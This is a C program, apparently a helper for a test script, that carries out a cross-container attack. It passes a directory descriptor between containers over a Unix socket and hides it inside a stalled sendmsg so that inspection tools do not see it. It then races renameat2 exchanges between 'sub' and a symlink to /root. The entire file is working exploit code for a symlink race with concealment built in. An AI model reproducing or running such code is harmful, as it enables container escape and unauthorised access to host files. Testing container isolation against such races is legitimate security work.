/*
 * Hides a directory in a socket, for passed.py.  «park a», in the container that has /srv/data, passes a descriptor
 * of that folder to «park b» in another container.  There a waiting sendmsg(2) has the only reference: no descriptor
 * table and no socket queue shows it.  When /shared/go appears, «park b» takes the descriptor back, and swaps «sub»
 * in that directory with a link to /root until /shared/stop appears.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static int pair[2], held = -1;

static int
pass(int s, int fd)
{
	char control[CMSG_SPACE(sizeof(int))] = { 0 }, byte = 'x';
	struct iovec v = { &byte, 1 };
	struct msghdr m = { .msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control) };
	struct cmsghdr *h = CMSG_FIRSTHDR(&m);

	h->cmsg_level = SOL_SOCKET;
	h->cmsg_type = SCM_RIGHTS;
	h->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(h), &fd, sizeof(int));
	return (int)sendmsg(s, &m, 0);
}

static int
take(int s)
{
	static char buf[1 << 16];
	char control[CMSG_SPACE(sizeof(int))];
	struct iovec v = { buf, sizeof(buf) };
	struct msghdr m = { .msg_iov = &v, .msg_iovlen = 1, .msg_control = control };
	struct cmsghdr *h;
	int fd;

	for (;;) {
		m.msg_controllen = sizeof(control);
		if (recvmsg(s, &m, 0) <= 0)
			exit(3);
		if ((h = CMSG_FIRSTHDR(&m)) != NULL && h->cmsg_type == SCM_RIGHTS) {
			memcpy(&fd, CMSG_DATA(h), sizeof(fd));
			return fd;
		}
	}
}

static void *
wait_in_send(void *unused)
{
	(void)pass(pair[0], held);
	return unused;
}

static void
mark(const char *path)
{
	close(open(path, O_CREAT | O_WRONLY, 0666));
}

static void
fill(int s)
{
	char some[16] = { 0 };

	fcntl(s, F_SETFL, O_NONBLOCK);
	while (write(s, some, sizeof(some)) > 0)
		;
	while (write(s, some, 1) > 0)
		;
	fcntl(s, F_SETFL, 0);
}

static int
hand_over(int s, const struct sockaddr_un *to)
{
	int dir = open("/srv/data", O_RDONLY | O_DIRECTORY);
	char byte;

	if (dir == -1 || connect(s, (const void *)to, sizeof(*to)) == -1)
		return 4;
	pass(s, dir);
	return read(s, &byte, 1) == 1 ? 0 : 5;
}

int
main(int argc, char **argv)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = "/shared/sock" };
	int s = socket(AF_UNIX, SOCK_STREAM, 0), other;
	pthread_t thread;

	if (argc < 2 || s == -1)
		return 2;
	if (argv[1][0] == 'a')
		return hand_over(s, &a);
	unlink(a.sun_path);
	if (bind(s, (const void *)&a, sizeof(a)) == -1 || listen(s, 1) == -1 || chmod(a.sun_path, 0777) == -1)
		return 6;
	mark("/shared/listening");
	if ((other = accept(s, NULL, NULL)) == -1 || socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == -1)
		return 7;
	held = take(other);
	fill(pair[0]);
	pthread_create(&thread, NULL, wait_in_send, NULL);
	usleep(300000);
	close(held);
	if (write(other, "k", 1) != 1)
		return 8;
	mark("/shared/parked");
	while (access("/shared/go", F_OK) != 0)
		usleep(20000);
	held = take(pair[1]);
	unlinkat(held, "link", 0);
	if (symlinkat("/root", held, "link") == -1)
		return 9;
	mark("/shared/swapping");
	while (access("/shared/stop", F_OK) != 0)
		for (int k = 0; k < 200; k++)
			syscall(SYS_renameat2, held, "sub", held, "link", 2);
	return 0;
}
